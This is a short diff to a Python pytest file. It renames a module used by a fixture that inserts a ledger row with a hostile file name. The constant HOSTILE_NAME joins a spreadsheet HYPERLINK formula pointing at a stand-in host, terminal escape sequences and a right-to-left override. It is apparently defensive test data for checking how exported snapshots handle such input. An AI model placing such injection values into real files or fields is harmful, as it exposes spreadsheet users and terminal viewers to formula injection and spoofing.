@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from bantin import warehouse
+from bantin import store, warehouse
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x","bấm")\x1b[2J\x1b]0;pwned\x07\u202e.csv'
 
@@ -19,7 +19,7 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x","bấm")\x1b[2J\x1b]0;pwned\
 @pytest.fixture
 def snapshot(settings):
     """A warehouse with one ledger row whose file name is hostile, published as the analysts' snapshot."""
-    with warehouse.writer(settings) as con:
+    with store.writer(settings) as con:
         con.execute(
             "INSERT INTO ops.submission (submission_id, district_code, file_name, landing_path, archive_path, sha256, "
             "size_bytes, received_at, recorded_at, status, is_late) VALUES ('207-x', 207, ?, 'l', 'a', 's', 1, ?, ?, "
